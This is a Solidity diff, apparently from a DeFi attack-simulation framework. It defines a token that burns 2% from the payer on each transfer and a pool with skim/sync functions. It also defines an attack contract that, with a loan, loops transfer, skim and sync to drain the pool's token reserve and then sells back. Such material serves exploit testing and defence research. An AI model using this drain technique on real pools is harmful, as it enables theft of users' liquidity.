@@ -14,7 +14,17 @@ contract TaxedToken is Token {
     }
 }
 
-/// A pool that books what it was promised, and can be made to look at what it holds.
+/// Takes two per cent from the payer, on top of what he pays.
+contract DebitToken is Token {
+    constructor() Token("DEBIT", 18) {}
+
+    function _move(address from, address to, uint256 amount) internal override {
+        super._move(from, to, amount);
+        _burn(from, amount / 50);
+    }
+}
+
+/// A pool that books what it pays, not what paying costs it.
 contract BookPool {
     Token public immutable taxed;
     IERC20 public immutable usd;
@@ -27,12 +37,8 @@ contract BookPool {
         (taxed, usd) = (taxed_, usd_);
     }
 
-    function open() external {
-        (bookTaxed, bookUsd) = (taxed.balanceOf(address(this)), usd.balanceOf(address(this)));
-    }
-
     function sell(uint256 amount) external {
-        uint256 out = amount * bookUsd / (bookTaxed + amount);
+        uint256 out = amount * 997 * bookUsd / (bookTaxed * 1000 + amount * 997);
         taxed.transferFrom(msg.sender, address(this), amount);
         (bookTaxed, bookUsd) = (bookTaxed + amount, bookUsd - out);
         usd.transfer(msg.sender, out);
@@ -40,32 +46,36 @@ contract BookPool {
     }
 
     function buy(uint256 amount) external {
-        uint256 out = amount * bookTaxed / (bookUsd + amount);
+        uint256 out = amount * 997 * bookTaxed / (bookUsd * 1000 + amount * 997);
         usd.transferFrom(msg.sender, address(this), amount);
         (bookTaxed, bookUsd) = (bookTaxed - out, bookUsd + amount);
         taxed.transfer(msg.sender, out);
         emit Traded(msg.sender, false, amount, out);
     }
 
-    function gulp() external {
-        bookTaxed = taxed.balanceOf(address(this));
+    function skim(address to) external {
+        taxed.transfer(to, taxed.balanceOf(address(this)) - bookTaxed);
+    }
+
+    function sync() external {
+        (bookTaxed, bookUsd) = (taxed.balanceOf(address(this)), usd.balanceOf(address(this)));
     }
 }
 
 contract FeeOnTransferScene is Scene {
     Token public usd;
-    TaxedToken public taxed = new TaxedToken();
+    DebitToken public taxed = new DebitToken();
     BookPool public pool;
 
     constructor(Bank b, address t, address s) payable Scene(b, t, s) {
         usd = _usd();
-        _asset(address(taxed), "TAX", 18, 1e6);
+        _asset(address(taxed), "DEBIT", 18, 1e6);
         pool = new BookPool(taxed, IERC20(address(usd)));
-        usd.mint(address(pool), 1_000_000e18);
-        taxed.mint(address(pool), 1_000_000e18);
-        pool.open();
+        usd.mint(address(pool), 1_500_000e18);
+        taxed.mint(address(pool), 1_500_000e18);
+        pool.sync();
         _protect(address(pool));
-        _loan(IERC20(address(usd)), 60_000_000e18);
+        _loan(IERC20(address(usd)), 6_000_000e18);
         loot0 = IERC20(address(usd));
     }
 
@@ -76,7 +86,7 @@ contract FeeOnTransferScene is Scene {
 
     function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
         uint256 amount = _amount(dice, 10e18, 1_500e18);
-        if (dice >> 200 & 15 == 0) return (address(pool), 0, abi.encodeCall(BookPool.gulp, ()));
+        if (dice >> 200 & 15 == 0) return (address(pool), 0, abi.encodeCall(BookPool.sync, ()));
         if (pool.bookTaxed() < pool.bookUsd()) return (address(pool), 0, abi.encodeCall(BookPool.sell, (amount)));
         return (address(pool), 0, abi.encodeCall(BookPool.buy, (amount)));
     }
@@ -89,20 +99,20 @@ contract FeeOnTransferAttack is Attack {
         pool = scene.pool();
     }
 
-    /// Buys nearly everything, shrinks what is left by selling in tiny bits that count in full, and sells back.
+    /// Buys most of it, lets the pool pay the tax until little is left of the rest, and sells back.
     function _act(uint256, uint256 index, uint256) internal override {
         if (index > 0) return;
+        Token taxed = pool.taxed();
         loanToken.approve(address(pool), type(uint256).max);
-        pool.taxed().approve(address(pool), type(uint256).max);
-        uint256 put = loot0.balanceOf(address(this)) * 9 / 10;
-        pool.buy(put);
-        pool.gulp();
-        for (uint256 i; i < 12; i++) {
-            uint256 left = pool.bookTaxed();
-            pool.sell(left);
-            pool.buy(pool.bookUsd() / 100);
-            pool.gulp();
+        taxed.approve(address(pool), type(uint256).max);
+        pool.buy(loanAmount);
+        pool.sync();
+        uint256 bite = taxed.balanceOf(address(this)) / 2;
+        for (uint256 i; i < 40 && pool.bookTaxed() > bite / 20; i++) {
+            taxed.transfer(address(pool), bite);
+            pool.skim(address(this));
+            pool.sync();
         }
-        pool.sell(pool.taxed().balanceOf(address(this)));
+        pool.sell(taxed.balanceOf(address(this)) * 98 / 100);
     }
 }
